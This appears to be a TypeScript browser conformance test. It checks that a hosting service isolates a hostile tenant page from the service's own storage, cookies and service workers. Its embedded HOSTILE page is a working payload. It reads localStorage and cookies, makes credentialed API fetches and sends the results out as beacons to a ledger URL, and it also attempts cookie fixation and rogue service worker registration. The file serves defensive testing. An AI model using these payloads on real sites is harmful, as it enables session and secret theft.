import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Ledger } from '../conformance/ledger.ts';
import { OwnServer } from '../conformance/server.ts';
import { pause, type TenantWorld, World } from '../conformance/world.ts';
import { hasBrowser, NO_BROWSER, openBrowser } from './browser.ts';

/** Everything that a page may try. What it gets at it sends away, and the browser tells that it does. */
const HOSTILE = `
const page = (nonce) => \`<!doctype html><title>a page</title>
<body onload="tell('onload')">
<script nonce="\${nonce}">
  const tell = (what) => { document.title = 'it ran'; new Image().src = LEDGER + '/' + encodeURIComponent(what); };
  tell('script');
  try { tell('storage ' + localStorage.getItem('key')); } catch {}
  try { tell('cookie ' + document.cookie); document.cookie = 'operator=evil; path=/'; } catch {}
  try { tell('opener ' + opener.localStorage.getItem('key')); } catch {}
  fetch('/v1/tenants', { credentials: 'include' }).then((r) => r.text()).then(tell, () => {});
  navigator.serviceWorker?.register('/t/evil/sw.js', { scope: '/' }).then(() => tell('worker'), () => {});
</script>
<img src="x" onerror="tell('onerror')">
<a id="link" href="javascript:tell('link')">click</a>
<form id="form" action="\${LEDGER}/form" method="post"><input name="a" value="b"><button id="send">send</button></form>
<iframe src="/v1/openapi.json" onload="tell('frame ' + this.contentDocument.body.innerText)"></iframe>
</body>\`;
export default {
  fetch(request) {
    const { pathname } = new URL(request.url);
    const headers = {
      'content-type': pathname.endsWith('.js') ? 'text/javascript' : 'text/html',
      'content-security-policy': "sandbox allow-scripts allow-same-origin allow-forms allow-popups; script-src 'unsafe-inline' *",
      'set-cookie': 'operator=evil; Path=/',
      'clear-site-data': '"*"',
      'service-worker-allowed': '/',
      'access-control-allow-origin': '*',
      'access-control-allow-credentials': 'true',
    };
    return new Response(pathname.endsWith('.js') ? "self.addEventListener('fetch', () => {})" : page('x'), { headers });
  },
};
`;

describe.skipIf(!hasBrowser)(`a hostile page at a front door (${NO_BROWSER})`, () => {
  const server = new OwnServer();
  const ledger = new Ledger();
  let browser: Browser;
  let context: BrowserContext;
  let evil: TenantWorld;
  /** Where the page has sent something, whether it has arrived or not. */
  const sent: string[] = [];

  beforeAll(async () => {
    await Promise.all([server.start(), ledger.listen()]);
    browser = await openBrowser();
    const world = new World({ url: server.url, operatorKey: server.operatorKey, ledger, canOwnServer: false });
    evil = await world.deployed(HOSTILE, { id: 'evil' });
  });
  afterAll(async () => {
    await browser.close();
    await Promise.all([server.remove(), ledger.close()]);
  });
  beforeEach(async () => {
    context = await browser.newContext();
    sent.length = 0;
    context.on('request', (request) => {
      if (request.url().startsWith(evil.ledgerUrl)) sent.push(request.url().slice(evil.ledgerUrl.length + 1, 80));
    });
  });
  afterEach(() => context.close());

  /** A page of the service itself, with something that nobody else may see. */
  const openOwn = async (): Promise<Page> => {
    const own = await context.newPage();
    await own.goto(`${server.url}/v1/openapi.json`);
    await own.evaluate("localStorage.setItem('key', 'ok_secret'); document.cookie = 'operator=1; path=/'");
    return own;
  };
  const settled = async (page: Page): Promise<void> => {
    await page.waitForLoadState('networkidle');
    // What it has sent may still be on its way.
    await pause(200);
  };
  const assertUntouched = async (own: Page): Promise<void> => {
    expect(sent).toEqual([]);
    await own.reload();
    expect(await own.evaluate("localStorage.getItem('key')")).toBe('ok_secret');
    expect((await context.cookies()).map(({ name, value }) => `${name}=${value}`)).toEqual(['operator=1']);
    expect(await own.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')).toBe(0);
  };

  it('runs no script, whatever policy it asks for, and sees nothing of the service’s own page', async () => {
    const own = await openOwn();
    const page = await context.newPage();
    const response = await page.goto(`${server.url}/t/evil/`);
    expect(response?.status()).toBe(200);
    await settled(page);
    expect(await page.title()).toBe('a page');
    await assertUntouched(own);
  });

  it('does not when it is opened by that page, nor where it is clicked', async () => {
    const own = await openOwn();
    const [page] = await Promise.all([
      context.waitForEvent('page'),
      own.evaluate(`void window.open('${server.url}/t/evil/')`),
    ]);
    await settled(page);
    await page.click('#link');
    await page.click('#send');
    await settled(page);
    expect(await page.title()).toBe('a page');
    await assertUntouched(own);
  });

  it('does not in a frame', async () => {
    const own = await openOwn();
    const page = await context.newPage();
    await page.route('**/frame-of-somebody', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/t/evil/"></iframe>` }),
    );
    await page.goto(`${server.url}/frame-of-somebody`);
    await settled(page);
    await assertUntouched(own);
  });

  it('would be seen if it ran: the same page without the front door’s headers does all of it', async () => {
    const page = await context.newPage();
    await page.route(`${server.url}/t/evil/`, async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _policy, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto(`${server.url}/t/evil/`);
    await settled(page);
    expect(await page.title()).toBe('it ran');
    expect(sent).toContain('script');
  });
});
